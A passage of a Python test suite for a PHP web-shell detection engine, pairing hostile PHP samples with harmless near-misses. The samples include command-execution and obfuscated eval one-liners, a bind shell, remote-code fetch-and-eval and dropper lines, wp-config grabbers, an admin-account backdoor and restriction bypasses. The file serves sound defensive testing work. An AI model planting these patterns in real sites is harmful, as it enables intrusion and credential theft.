                 b'<input name=path><input type=submit></form>')


def test_upload_form_choosing_the_directory_is_a_shell_tool(eng):
    src = (b"<?php\nif (isset($_FILES['f'])) {\n"
           b"    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path'] . '/' . $_FILES['f']['name']);\n"
           b"    echo 'ok';\n}\n?>\n" + UPLOADER_FORM)
    v = eng.analyse(src, '/var/www/html/u.php')
    assert v.suspicious and rules(v) == {'php.write.request_path', 'php.write.unchecked'}, v
    # the same call without a form of its own on the page: the write and that nothing about
    # the upload is checked (a stand-alone uploader)
    v = eng.analyse(src[:src.index(b'?>')], '/var/www/html/u2.php')
    assert v.suspicious and v.score == 12, v


def test_avatar_upload_to_a_fixed_directory_is_clean(eng):
    src = (b"<?php\nif (isset($_FILES['avatar'])) {\n"
           b"    $ext = strtolower(pathinfo($_FILES['avatar']['name'], PATHINFO_EXTENSION));\n"
           b"    if (!in_array($ext, array('jpg', 'png', 'gif'), true)) { die('bad type'); }\n"
           b"    $name = bin2hex(random_bytes(16)) . '.' . $ext;\n"
           b"    move_uploaded_file($_FILES['avatar']['tmp_name'], __DIR__ . '/uploads/avatars/' . $name);\n"
           b"}\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"avatar\">"
           b"<input type=\"hidden\" name=\"path\" value=\"x\"><input type=\"submit\"></form>")
    v = eng.analyse(src, '/var/www/html/avatar.php')
    assert not v.suspicious and v.score == 0, v


def test_callable_held_in_a_property_called_with_request_input(eng):
    for src in (b"<?php\nclass L { public $h; function __destruct() { ($this->h)($_REQUEST['m']); } }\n"
                b"$l = new L; $l->h = $_REQUEST['f'];\n",
                b'<?php\nclass K { public $h; function run() { return $this->h->__invoke($_POST["a"]); } }\n'
                b'$k = new K; $f = $_POST["f"]; $k->h = $f; $k->run();\n'):
        v = eng.analyse(src, '/var/www/html/p.php')
        assert v.suspicious and {'php.call.request_function',
                                 'php.call.variable_function_input'} <= rules(v), v
    # near-miss: the property holds a name the code wrote; request input is only the argument
    near = (b"<?php\nclass Row { public $fmt; public $name;\n"
            b"  function show($v) { return ($this->fmt)($v); } }\n"
            b"$r = new Row; $r->fmt = 'htmlspecialchars'; $r->name = $_POST['name'];\n"
            b"echo $r->show($r->name);\n")
    v = eng.analyse(near, '/var/www/html/row.php')
    assert not v.suspicious and v.score == 0, v


# --- code and names built at run time (folding, escapes, hex, decoders of names) -----------
def test_eval_of_code_assembled_from_pieces_holding_semicolons(eng):
    src = (b'<?php\n$a = "ev"; $b = "al($_PO"; $c = "ST[\'k\']);";\n'
           b'$code = $a . $b . $c; eval($code);\n')
    src = src.replace(b'$_PO', b'\\$_PO')
    v = eng.analyse(src, '/var/www/html/a.php')
    assert v.suspicious and 'php.code.request_input' in rules(v), v
    # near-miss: a template evaluated from constant pieces, no request input anywhere
    near = b'<?php\n$a = "return array("; $b = "\'x\' => 1);"; $cfg = eval($a . $b);\n'
    assert not eng.analyse(near, '/var/www/html/cfg.php').suspicious


def test_function_name_built_by_a_replace_held_in_a_variable(eng):
    src = (b"<?php\n$r = str_replace('q', '', 'sqtqrq_qrqeqpqlqaqcqe');\n"
           b"$g = $r('z', '', 'czrzezaztez_zfzuznzcztzizozn');\n"
           b"$f = $g('', base64_decode('ZWNobyAxOw=='));\n$f();\n")
    v = eng.analyse(src, '/var/www/html/b.php')
    assert v.suspicious and 'php.call.computed_name' in rules(v), v
    near = b"<?php\n$r = str_replace('-', '_', 'my-plugin');\n$slug = $r;\necho $slug;\n"
    assert not eng.analyse(near, '/var/www/html/slug.php').suspicious


def test_eval_of_a_string_hidden_only_by_escapes(eng):
    inner = b"system($_GET['c']);"
    escaped = b''.join(b'\\x%02x' % c for c in inner)
    v = eng.analyse(b'<?php eval("' + escaped + b'"); ?>', '/var/www/html/e.php')
    assert v.suspicious and 'php.exec.request_input' in rules(v), v
    near = b'<?php echo "\\x41\\x42 tab\\there"; eval("return 1;");'
    assert not eng.analyse(near, '/var/www/html/n.php').suspicious


def test_code_kept_as_a_bare_hex_string(eng):
    hexed = b"assert($_POST['k']);".hex().encode()
    src = b"<?php\nif ($_GET['x'] == 'go') { echo sprintf('" + hexed + b"'); }\n"
    v = eng.analyse(src, '/var/www/html/g.php')
    assert v.suspicious and 'php.obfuscation.decoded_code' in rules(v), v
    # near-miss: hashes and colour tables are hex too, but decode to bytes, not code
    near = (b"<?php\n$known = array('5d41402abc4b2a76b9719d911017c592', "
            b"'da39a3ee5e6b4b0d3255bfef95601890afd80709');\n"
            b"if (in_array(md5($_GET['p']), $known)) { echo 'ok'; }\n")
    assert not eng.analyse(near, '/var/www/html/h.php').suspicious


def test_the_value_of_a_call_called_with_request_input(eng):
    v = eng.analyse(b"<?php\nfunction pick($n) { return 'st' . $n; }\npick($_GET['a'])($_GET['b']);\n",
                    '/var/www/html/c.php')
    assert v.suspicious and 'php.small.dynamic_input' in rules(v), v
    for near in (b"<?php\n$id = (int)($_GET['id']);\necho htmlspecialchars((string)($_GET['q']));\n",
                 b"<?php\nif (isset($_GET['a'])) ($_GET['a'] === 'x') ? print('x') : print('y');\n"):
        assert not eng.analyse(near, '/var/www/html/d.php').suspicious, near


def test_function_name_given_by_a_decoder_the_file_defines(eng):
    src = (b"<?php\nfunction dec($s, $k) { $o = '';\n"
           b"  for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2)) - $k); }\n"
           b"  return $o; }\n"
           b"$f = dec('" + b''.join(b'%02X' % (c + 1) for c in b'system') + b"', 1);\n"
           b"$f($_POST['c']);\n")
    v = eng.analyse(src, '/var/www/html/d.php')
    assert v.suspicious and 'php.code.custom_decoder' in rules(v), v


def test_preg_replace_whose_e_modifier_is_spelled_with_chr(eng):
    src = (b"<?php\n$m = array(chr(101), 'k');\n"
           b"$out = preg_replace(chr(47) . 'x' . chr(47) . $m[0], $_POST['r'], 'x');\n")
    v = eng.analyse(src, '/var/www/html/p.php')
    assert v.suspicious and 'php.preg_replace.eval_modifier' in rules(v), v
    near = (b"<?php\n$m = array(chr(105));\n"
            b"$out = preg_replace(chr(47) . 'x' . chr(47) . $m[0], htmlspecialchars($_POST['r']), 'x');\n")
    assert not eng.analyse(near, '/var/www/html/q.php').suspicious


def test_standalone_uploader_that_never_checks_what_it_stores(eng):
    for src in (b"<?php\nif (isset($_POST['go'])) {\n"
                b"  copy($_FILES['f']['tmp_name'], $_POST['to']);\n  echo 'done';\n}\n?>\n"
                b"<form method=post enctype=multipart/form-data><input type=file name=f>"
                b"<input name=to><input type=submit name=go></form>\n",
                b"<?php\n$h = fopen($_POST['n'], 'w'); fwrite($h, $_POST['c']); fclose($h);\n"):
        v = eng.analyse(src, '/var/www/html/u.php')
        assert v.suspicious and 'php.write.unchecked' in rules(v), v
    # near-miss: an avatar handler that checks the image and picks the name itself
    near = (b"<?php\n$info = getimagesize($_FILES['avatar']['tmp_name']);\n"
            b"if ($info && in_array($info[2], array(IMAGETYPE_PNG, IMAGETYPE_JPEG))) {\n"
            b"  move_uploaded_file($_FILES['avatar']['tmp_name'], 'avatars/' . md5($_POST['user']) . '.png');\n}\n")
    v = eng.analyse(near, '/var/www/html/avatar.php')
    assert not v.suspicious and 'php.write.unchecked' not in rules(v), v


def test_preg_replace_e_with_code_from_elsewhere_and_eval_of_fetched_code(eng):
    v = eng.analyse(b"<?php\n$a = gzinflate($_SESSION['x']);\npreg_replace('/.*/e', $a, '');\n",
                    '/var/www/html/p.php')
    assert v.suspicious and 'php.preg_replace.eval_modifier' in rules(v), v
    # an old application's /e with a literal template stays below the threshold
    old = b"<?php\n$t = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $title);\n"
    assert not eng.analyse(old, '/var/www/html/old.php').suspicious
    v = eng.analyse(b"<?php\n$code = file_get_contents('http://198.51.100.7/x.txt');\n@eval($code);\n",
                    '/var/www/html/m.php')
    assert v.suspicious and 'php.code.fetched_code' in rules(v), v
    # near-miss: an API client that fetches JSON and evaluates nothing it fetched
    near = (b"<?php\n$body = file_get_contents('https://api.example.org/v1/rates');\n"
            b"$rates = json_decode($body, true);\n$tpl = 'return 1;';\n$one = eval($tpl);\n")
    assert not eng.analyse(near, '/var/www/html/rates.php').suspicious


def test_sql_console_takes_the_whole_query_and_the_login_from_the_request(eng):
    src = (b"<?php\n$link = mysql_connect('localhost', $_POST['user'], $_POST['pass']);\n"
           b"function run() {\n  $q = $_GET['query'];\n  $q2 = str_replace('\\\\', ' ', $q);\n"
           b"  $r = @mysql_query(\"$q2\");\n  while ($row = mysql_fetch_row($r)) { echo implode(' | ', $row); }\n}\nrun();\n")
    v = eng.analyse(src, '/var/www/html/sql.php')
    assert v.suspicious and {'php.sql.request_query', 'php.sql.request_login'} <= rules(v), v
    # near-misses: a value placed inside a query the code writes (an injection bug, not a
    # console), and an installer connecting with settings from its config file
    for near in (b"<?php\n$r = mysql_query(\"SELECT * FROM t WHERE id = \" . (int)$_GET['id']);\n"
                 b"$s = mysqli_query($db, \"SELECT name FROM u WHERE login = '\" . $_POST['u'] . \"'\");\n",
                 b"<?php\nrequire 'config.php';\n$db = mysqli_connect($cfg['host'], $cfg['user'], $cfg['pass']);\n"):
        v = eng.analyse(near, '/var/www/html/list.php')
        assert not v.suspicious and not rules(v) & {'php.sql.request_query', 'php.sql.request_login'}, v


def test_text_file_that_is_a_php_page_is_staged_code(eng):
    page = (b"<html><body><?php\nif (isset($_POST['c'])) { $o = array(); exec($_POST['c'], $o); "
            b"echo implode(\"\\n\", $o); } ?>\n<form method=post><input name=c></form></body></html>\n")
    v = eng.analyse(page, '/var/www/html/images/readme.txt')
    assert v.suspicious and 'file.php_program_in_text' in rules(v), v
    v = eng.analyse(b"<?php\nexec('ls -la');\n", '/var/www/html/notes.txt')
    assert v.suspicious and 'file.php_program_in_text' in rules(v), v
    # near-miss: prose documentation quoting a snippet
    doc = (b"Installation\n============\n\nAdd this to your template:\n\n"
           b"    <?php echo do_shortcode('[gallery]'); ?>\n\nThen run `wget` or `curl` to fetch updates.\n")
    v = eng.analyse(doc, '/var/www/html/readme.txt')
    assert not v.suspicious and 'file.php_program_in_text' not in rules(v), v


def test_config_grabber_reading_the_account_list_and_other_homes(eng):
    src = (b"<?php\n$users = file('/etc/passwd');\nforeach ($users as $line) {\n"
           b"  $u = explode(':', $line);\n  $cfg = '/home/' . $u[0] . '/public_html/wp-config.php';\n"
           b"  if (is_readable($cfg)) { echo htmlspecialchars(file_get_contents($cfg)); }\n}\n")
    v = eng.analyse(src, '/var/www/html/c.php')
    assert v.suspicious and 'php.recon.other_accounts' in rules(v), v
    # near-miss: the site's own home path written out, and a comment naming /etc/passwd
    near = (b"<?php\n// never let a path like /etc/passwd through\n"
            b"define('UPLOADS', '/home/site/public_html/uploads');\n$f = basename($_GET['f']);\n"
            b"readfile(UPLOADS . '/' . $f);\n")
    v = eng.analyse(near, '/var/www/html/dl.php')
    assert not v.suspicious and 'php.recon.other_accounts' not in rules(v), v


def test_safe_mode_and_disable_functions_bypasses(eng):
    for src in (b"<?php\n$file = $_POST['file'];\necho ini_get('disable_functions');\n"
                b"copy('compress.zlib://' . $file, '/tmp/x'); readfile('/tmp/x');\n",
                b"<?php\nputenv('LD_PRELOAD=/tmp/x.so');\nerror_reporting(0); set_time_limit(0);\n"
                b"mail('a@b.c', '', '', '');\n"):
        v = eng.analyse(src, '/var/www/html/b.php')
        assert v.suspicious and 'php.bypass.restrictions' in rules(v), v
    # near-miss: writing a gzip file through the wrapper (a cache or an export)
    near = b"<?php\ncopy($tmp, 'compress.zlib://' . $cache . '.gz');\n"
    assert 'php.bypass.restrictions' not in rules(eng.analyse(near, '/var/www/html/gz.php'))


def test_star_banner_line_comment_does_not_open_a_block_comment(eng):
    """'//*****' is a line comment; the '/*' inside it must not hide the code below."""
    src = (b"<?php\n//*************************\n// command line\n"
           b"$cmd = $_POST['cmd'];\n$out = shell_exec(\"$cmd\");\necho $out;\n")
    v = eng.analyse(src, '/var/www/html/s.php')
    assert v.suspicious and 'php.exec.request_input' in rules(v), v
    # a real block comment still hides what it encloses
    assert not eng.analyse(b"<?php\n/* example:\n shell_exec($_POST['cmd']);\n*/\necho 1;\n",
                           '/var/www/html/doc.php').suspicious


def test_functions_reached_through_reflection_xslt_globals_and_hex_names(eng):
    for name, src in (
            ('invoke.php', b"<?php\n$f = $_GET['f'];\nClosure::fromCallable($f)->__invoke($_REQUEST['a']);\n"),
            ('xpath.php', b"<?php\n$x = new DOMXPath(new DOMDocument);\n$x->registerNamespace('php', 'http://php.net/xpath');\n"
                          b"$x->registerPHPFunctions();\n$x->query(\"//a[php:functionString('system', '\" . $_GET['c'] . \"')]\");\n"),
            ('globals.php', b"<?php\n$GLOBALS[7] = 'sys' . 'tem';\n$GLOBALS[7]($_COOKIE['c']);\n"),
            ('hexnames.php', b"<?php\n$fn = array('66696c655f7075745f636f6e74656e7473', '676574637764');\n"
                             b"function h($s) { return pack('H*', $s); }\n$w = h($fn[0]);\n$w($_POST['p'], $_POST['d']);\n")):
        v = eng.analyse(src, '/var/www/html/' + name)
        assert v.suspicious, (name, v)
    # near-misses: an XSLT filter calling a harmless PHP function, a hash table of hex digests
    near = (b"<?php\n$p = new XSLTProcessor();\n$p->registerPHPFunctions();\n"
            b"$xsl = '<xsl:value-of select=\"php:function(\\'ucfirst\\', string(title))\"/>';\n")
    assert not eng.analyse(near, '/var/www/html/x.php').suspicious
    near = b"<?php\n$seen = array('a3f5c1', 'ffee00', '00ff00');\necho $seen[0];\n"
    assert 'php.obfuscation.hidden_function' not in rules(eng.analyse(near, '/var/www/html/c.php'))


def test_com_objects_that_run_programs_or_enumerate_the_server(eng):
    v = eng.analyse(b"<?php\n$sh = new COM('WS' . 'cript.Sh' . 'ell');\n$sh->Run('cmd /c whoami > c:\\\\t.txt');\n",
                    '/var/www/html/w.php')
    assert v.suspicious and 'php.exec.com_object' in rules(v), v
    v = eng.analyse(b'<?php\n$s = new COM("IIS://localhost/w3svc");\nforeach ($s as $o) echo $o->Name;\n',
                    '/var/www/html/iis.txt')
    assert v.suspicious and 'php.exec.com_object' in rules(v), v
    # near-miss: a library reading file attributes through Scripting.FileSystemObject
    near = b"<?php\n$fso = new COM('Scripting.FileSystemObject');\n$f = $fso->GetFile($path);\necho $f->Size;\n"
    assert 'php.exec.com_object' not in rules(eng.analyse(near, '/var/www/html/lib.php'))


def test_names_picked_from_a_decoded_string_by_brace_index(eng):
    src = (b"<?php\n$k = base64_decode('bXlzcWxfcXVlcnk=');\n"
           b"$f = $k{0}.$k{1}.$k{2}.$k{3}.$k{4}.$k{5}.$k{6}.$k{7}.$k{8}.$k{9}.$k{10};\n"
           b"$link = mysql_connect($_POST['h'], $_POST['u'], $_POST['p']);\n$f($_POST['q']);\n")
    v = eng.analyse(src, '/var/www/html/k.php')
    assert v.suspicious and 'php.obfuscation.symbol_code' in rules(v), v


def test_write_to_a_path_carried_in_a_cookie(eng):
    src = (b"<?php\nif (!empty($_COOKIE['p'])) {\n"
           b"  file_put_contents($_COOKIE['p'], base64_decode(file_get_contents('/tmp/.cache')));\n}\n")
    v = eng.analyse(src, '/var/www/html/c.php')
    assert v.suspicious and 'php.write.request_path' in rules(v), v
    # near-miss: a page cache keyed by the Host header (caches do this)
    near = (b"<?php\n$dir = __DIR__ . '/cache/' . $_SERVER['HTTP_HOST'];\n"
            b"file_put_contents($dir . '/index.html', ob_get_contents());\n")
    assert not eng.analyse(near, '/var/www/html/cache.php').suspicious


def test_mail_relay_where_the_client_picks_recipient_and_sender(eng):
    src = (b"<?php\n$to = $_POST['to']; $from = $_POST['from'];\n"
           b"mail($to, $_POST['subject'], $_POST['body'], 'From: ' . $from);\n")
    v = eng.analyse(src, '/var/www/html/m.php')
    assert v.suspicious and 'php.mailer.request_recipients' in rules(v), v
    # near-miss: a contact form mailing the site owner, the visitor only in Reply-To
    near = (b"<?php\n$msg = strip_tags($_POST['message']);\n"
            b"mail('owner@example.org', 'Contact form', $msg, 'Reply-To: ' . $_POST['email']);\n")
    assert not eng.analyse(near, '/var/www/html/contact.php').suspicious


def test_command_given_the_clients_address_and_port_connects_back(eng):
    src = b"<?php\nsystem('./helper ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);\n"
    v = eng.analyse(src, '/var/www/html/f.php')
    assert v.suspicious and 'php.revshell.socket_shell' in rules(v), v
    near = b"<?php\nexec('logger visit from ' . escapeshellarg($_SERVER['REMOTE_ADDR']));\n"
    assert not eng.analyse(near, '/var/www/html/log.php').suspicious


def test_database_server_made_to_write_files(eng):
    src = (b"<?php\n$c = mysql_connect($_COOKIE['h'], $_COOKIE['u'], $_COOKIE['p']);\n"
           b"$q = \"select '$payload' into dumpfile '$target';\";\nmysql_query($q);\n")
    v = eng.analyse(src, '/var/www/html/mof.php')
    assert v.suspicious and 'php.sql.file_io' in rules(v), v
    near = b"<?php\n// MySQL can export with SELECT ... INTO OUTFILE, we do not use it\n$r = $db->query('SELECT 1');\n"
    assert 'php.sql.file_io' not in rules(eng.analyse(near, '/var/www/html/x.php'))


def test_code_fetched_from_a_url_spelled_in_hex(eng):
    url = b"http://203.0.113.9/p.txt".hex().encode()
    parts = b", ".join(b"'" + url[i:i + 2] + b"'" for i in range(0, len(url), 2))
    src = (b"<?php\n$t = array(" + parts + b");\n"
           b"call_user_func(create_function(null, file_get_contents(pack('H*', join(null, $t)))));\n")
    v = eng.analyse(src, '/var/www/html/w.php')
    assert v.suspicious and 'php.code.fetched_code' in rules(v), v


def test_listeners_defacements_and_curl_file_reads(eng):
    v = eng.analyse(b"<?php\n$f = $_GET['file'];\n$ch = curl_init();\n"
                    b"curl_setopt($ch, CURLOPT_URL, 'file://' . $f);\necho curl_exec($ch);\n",
                    '/var/www/html/r.php')
    assert v.suspicious and 'php.bypass.restrictions' in rules(v), v
    v = eng.analyse(b"<?php\n$h = fopen('index.php', 'w');\nfwrite($h, '<h1>owned</h1>');\nfclose($h);\n",
                    '/var/www/html/up/readme.txt')
    assert v.suspicious and 'php.deface.index_overwrite' in rules(v), v
    src = (b"<?php\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, '0.0.0.0', 1080);\n"
           b"socket_listen($s);\nwhile ($c = socket_accept($s)) { socket_write($c, 'hi'); }\n")
    v = eng.analyse(src, '/var/www/html/l.php')
    assert 'php.net.listener' in rules(v) and not v.suspicious, v   # needs more evidence
    # near-misses: a cache writing its own index.html under a directory, an HTTP fetch
    near = (b"<?php\nfile_put_contents($dir . '/index.html', '');\n"
            b"$ch = curl_init('https://example.org/feed');\n")
    assert not rules(eng.analyse(near, '/var/www/html/c.php')) & {
        'php.deface.index_overwrite', 'php.bypass.restrictions'}


def test_name_built_with_append_and_dropper_writing_a_php_file(eng):
    v = eng.analyse(b"<?php $e = $_POST['e']; $t = 'as'; $t .= 'sert'; $t($e);", '/var/www/html/a.php')
    assert v.suspicious and 'php.call.computed_name' in rules(v), v
    v = eng.analyse(b"<?php copy('http://198.51.100.4/x.txt', 'wp-cache.php');", '/var/www/html/d.php')
    assert v.suspicious and 'php.dropper.remote_write' in rules(v), v
    # near-misses: a string grown with .= for output, an updater saving a zip it fetched
    near = b"<?php $html = '<ul>'; $html .= '<li>x</li>'; echo $html;"
    assert not eng.analyse(near, '/var/www/html/l.php').suspicious
    near = (b"<?php $zip = file_get_contents('https://downloads.example.org/plugin.zip');\n"
            b"file_put_contents(WP_CONTENT_DIR . '/upgrade/plugin.zip', $zip);\n")
    assert not eng.analyse(near, '/var/www/html/upd.php').suspicious


def test_request_input_handed_to_a_helper_that_runs_it(eng):
    src = (b"<?php\nfunction run_it($cmd) {\n  $out = array();\n  if (function_exists('exec')) { exec($cmd, $out); }\n"
           b"  return implode(\"\\n\", $out);\n}\nif (isset($_POST['c'])) {\n  $c = $_POST['c'];\n"
           b"  echo json_encode(array('out' => run_it($c)));\n}\n")
    v = eng.analyse(src, '/var/www/html/p.php')
    assert v.suspicious and 'php.exec.request_input' in rules(v), v
    # near-misses: request field NAMES written into code text that is evaluated, and a helper
    # running a fixed converter on a sanitised value
    near = (b"<?php\nfunction check($expr) { return eval('return (' . $expr . ');'); }\n"
            b"foreach ($fields as $f) { check(str_replace('{}', '$_REQUEST[\"' . $f . '\"]', $rule)); }\n")
    v = eng.analyse(near, '/var/www/html/validate.php')
    assert 'php.code.request_input' not in rules(v), v
    near = (b"<?php\nfunction thumb($file) { exec('convert ' . escapeshellarg($file) . ' -resize 64x64 t.png'); }\n"
            b"thumb(basename($_GET['img']));\n")
    assert not eng.analyse(near, '/var/www/html/t.php').suspicious


def test_bind_shell_running_what_it_reads_from_a_socket(eng):
    src = (b"<?php\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, '0.0.0.0', 4444);\n"
           b"socket_listen($s);\n$c = socket_accept($s);\nwhile (true) {\n  $line = socket_read($c, 2048, PHP_NORMAL_READ);\n"
           b"  $line = trim($line);\n  socket_write($c, (string) shell_exec($line));\n}\n")
    v = eng.analyse(src, '/var/www/html/bind.php')
    assert v.suspicious and 'php.revshell.socket_shell' in rules(v), v
    # near-miss: an SMTP client reading server replies and converting an attachment
    near = (b"<?php\n$fp = fsockopen('mail.example.org', 25);\n$reply = fgets($fp, 512);\n"
            b"exec('convert ' . escapeshellarg($tmp) . ' out.png');\n")
    assert 'php.revshell.socket_shell' not in rules(eng.analyse(near, '/var/www/html/smtp.php'))


def test_grabber_walking_every_home_and_nopriv_admin_backdoor(eng):
    src = (b"<?php\n$pw = file('/etc/passwd');\nforeach (glob('/home/*', GLOB_ONLYDIR) as $d) {\n"
           b"  echo @file_get_contents($d . '/public_html/wp-config.php');\n}\n")
    v = eng.analyse(src, '/var/www/html/g.php')
    assert v.suspicious and 'php.recon.other_accounts' in rules(v), v
    src = (b"<?php\nadd_action('wp_ajax_nopriv_sync_cache', 'my_sync');\nfunction my_sync() {\n"
           b"  wp_insert_user(array('user_login' => $_POST['l'], 'user_pass' => $_POST['p'], "
           b"'role' => 'administrator'));\n}\n")
    v = eng.analyse(src, '/var/www/html/wp-content/plugins/x/x.php')
    assert v.suspicious and 'php.backdoor.admin_account' in rules(v), v
    # near-miss: a registration form making subscribers, an admin-only page making admins
    near = (b"<?php\nadd_action('wp_ajax_nopriv_register', 'reg');\nfunction reg() {\n"
            b"  wp_insert_user(array('user_login' => sanitize_user($_POST['l']), 'role' => 'subscriber'));\n}\n"
            b"add_action('admin_post_promote', function () { $u = new WP_User(1); $u->set_role('administrator'); });\n")
    assert 'php.backdoor.admin_account' not in rules(eng.analyse(near, '/var/www/html/reg.php'))


def test_closure_called_through_a_variable_is_not_a_run_time_name(eng):
    src = (b"<?php\n$status = in_array($_GET['s'] ?? '', ['paid', 'open'], true) ? $_GET['s'] : 'paid';\n"
           b"$safe = static function ($v) { return ltrim((string) $v, '=+-@'); };\n"
           b"foreach ($rows as $row) { fputcsv($out, [$safe($row['email']), $status]); }\n")
    v = eng.analyse(src, '/var/www/html/export.php')
    assert not v.suspicious, v


def test_one_page_file_manager_for_the_whole_server(eng):
    src = (b"<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '/';\n"
           b"if (isset($_GET['rm'])) { @unlink($_GET['rm']); }\nif (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }\n"
           b"if (isset($_POST['perm'])) { chmod($_POST['f'], octdec($_POST['perm'])); }\n"
           b"if (isset($_POST['nd'])) { mkdir($d . '/' . $_POST['nd']); }\nif (isset($_GET['show'])) { highlight_file($_GET['show']); }\n"
           b"if (isset($_POST['save'])) { $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['body']); }\n"
           b"if (!empty($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $d . '/x'); }\n"
           b"foreach (scandir($d) as $e) { echo htmlspecialchars($e), '<br>'; }\n?>\n"
           b"<form method=post><input name=f><textarea name=body></textarea><input name=save type=submit></form>\n")
    v = eng.analyse(src, '/var/www/html/fm.php')
    assert v.suspicious and 'php.shell.toolkit' in rules(v), v
    # near-miss: a media library page: upload, list and delete inside the CMS's own folder
    near = (b"<?php\nrequire 'admin/bootstrap.php';\n$dir = MEDIA_DIR;\n"
            b"if (!empty($_FILES['m']) && in_array(pathinfo($_FILES['m']['name'], PATHINFO_EXTENSION), ['jpg', 'png'])) {\n"
            b"  move_uploaded_file($_FILES['m']['tmp_name'], $dir . '/' . md5_file($_FILES['m']['tmp_name']) . '.jpg'); }\n"
            b"if (isset($_POST['del'])) { unlink($dir . '/' . basename($_POST['del'])); }\n"
            b"foreach (scandir($dir) as $e) { echo htmlspecialchars($e); }\n?>\n<form method=post enctype=multipart/form-data><input type=file name=m></form>\n")
    assert not eng.analyse(near, '/var/www/html/admin/media.php').suspicious


def test_request_path_and_content_handed_to_a_helper_that_writes_them(eng):
    src = (b"<?php\nfunction save($f, $d) { file_put_contents($f, $d); echo 'ok'; }\n"
           b"if ($_POST['a'] == 'save') { save($_POST['file'], $_POST['data']); }\n")
    v = eng.analyse(src, '/var/www/html/e.php')
    assert v.suspicious and {'php.write.request_path', 'php.write.unchecked'} <= rules(v), v
    # near-miss: a settings page saving to its own file through a helper
    near = (b"<?php\nfunction save($f, $d) { file_put_contents($f, $d); }\n"
            b"save(__DIR__ . '/settings.json', json_encode(array('title' => strip_tags($_POST['title']))));\n")
    assert not eng.analyse(near, '/var/www/html/settings.php').suspicious


def test_hostile_shapes_for_the_new_checks_stay_cheap(eng):
    """Many cut statements, many helpers, many hex strings and '/etc/' mentions: the engine
    answers (bounded work), and finds nothing in what is only noise."""
    noise = b"".join(b'$a%d = "x;%s' % (i, b'y' * 200) for i in range(3000))
    noise += b"".join(b"function f%d($p) { file_put_contents($p, 1); }\nf%d('x');\n" % (i, i) for i in range(300))
    noise += b"".join(b"'%s' /etc/ index. /home " % (b'ab' * 40) for i in range(3000))
    v = eng.analyse(b'<?php\n' + noise, '/var/www/html/noise.php')
    assert not v.suspicious, v


def test_taint_through_assignments_in_conditions_pieces_and_dynamic_server_keys(eng):
    for src in (b"<?php\nif ($c = getenv('HTTP_X_TOKEN')) { passthru($c . ' 2>&1'); }\n",
                b"<?php\n$v = @$_POST['x'];\n$z = 'sh'; $z .= 'ell_'; $z .= 'exec';\n$o = $z($v);\necho $o;\n",
                b"<?php\n$h = base64_decode('SFRUUF9YX0E=');\n$f = $_GET['f'];\nif (!empty($_SERVER[$h])) { echo $f($_SERVER[$h]); }\n"):
        v = eng.analyse(src, '/var/www/html/t.php')
        assert v.suspicious, (src, v)
    # near-miss: a loop reading a local file line by line with a condition assignment
    near = b"<?php\n$fh = fopen(__DIR__ . '/list.txt', 'r');\nwhile ($line = fgets($fh)) { echo htmlspecialchars($line); }\n"
    assert not eng.analyse(near, '/var/www/html/list.php').suspicious


def test_code_run_through_decoding_loops_data_uris_temp_files_and_wrappers(eng):
    key = b'k3y'
    payload = bytes(c ^ key[i % 3] for i, c in enumerate(b"system($_GET['c']);"))
    esc = b''.join(b'\\x%02x' % c for c in payload)
    for name, src in (
            ('loop.php', b'<?php\n$k = "k3y"; $d = "' + esc + b'"; $o = "";\n'
                         b'for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % 3]; }\neval($o);\n'),
            ('data.php', b"<?php\n$b = base64_decode(file_get_contents('php://input'));\n$p = '';\n"
                         b"for ($i = 0; $i < strlen($b); $i++) { $p .= chr(ord($b[$i]) ^ 0x42); }\n"
                         b"include 'data://text/plain;base64,' . base64_encode($p);\n"),
            ('tmp.php', b"<?php\n$c = openssl_decrypt($_COOKIE['t'], 'aes-128-ecb', 'k');\n$t = tempnam(sys_get_temp_dir(), 's');\n"
                        b"file_put_contents($t, '<?php ' . $c);\ninclude $t;\nunlink($t);\n")):
        v = eng.analyse(src, '/var/www/html/' + name)
        assert v.suspicious, (name, v)
    # near-misses: a view renderer including a cached template, a checksum loop with XOR
    near = (b"<?php\n$cache = CACHE_DIR . '/' . md5($tpl) . '.php';\nif (!is_file($cache)) { file_put_contents($cache, compile($tpl)); }\n"
            b"include $cache;\n$crc = 0; for ($i = 0; $i < strlen($s); $i++) { $crc ^= ord($s[$i]); }\n")
    assert not eng.analyse(near, '/var/www/html/view.php').suspicious


def test_anonymous_functions_that_run_their_parameter_on_request_data(eng):
    for src in (b"<?= preg_replace_callback_array(['#.+#' => fn($m) => shell_exec($m[0])], (string) @$_COOKIE['t']) ?>",
                b"<?php set_error_handler(function ($no, $str) { echo shell_exec($str); return true; }, E_USER_NOTICE);\n"
                b"trigger_error((string) $_POST['n'], E_USER_NOTICE);\n",
                b"<?php parse_str(getenv('QUERY_STRING'), $o); echo array_reduce([@$o['q']], function ($r, $i) { return $r . `$i`; }, '');\n"):
        v = eng.analyse(src, '/var/www/html/c.php')
        assert v.suspicious, (src, v)
    # near-misses: a closure converting files it escapes, a closure asserting a type
    near = (b"<?php\n$files = array_map('basename', (array) $_POST['f']);\n"
            b"array_walk($files, function ($f) { exec('convert ' . escapeshellarg($f) . ' out.png'); });\n"
            b"$u = preg_replace_callback('/x/', static function ($m) { assert(is_string($m[0])); return $m[0]; }, $url);\n")
    assert not eng.analyse(near, '/var/www/html/conv.php').suspicious


def test_legitimate_code_that_looks_like_shells(eng):
    for name, src in (
            # a malware scanner's signature list: calls written inside strings are text
            ('scanner.php', b"<?php\n$sigs = array(\n  array('id' => 'X1', 'name' => 'eval(base64_decode()) dropper', 're' => '/eval\\s*\\(/'),\n"
                            b"  array('id' => 'X2', 'name' => 'system($_GET[...]) one-liner'),\n);\n"
                            b"foreach ($sigs as $s) { if (preg_match($s['re'], $body)) { $hits[] = $s['id']; } }\n"),
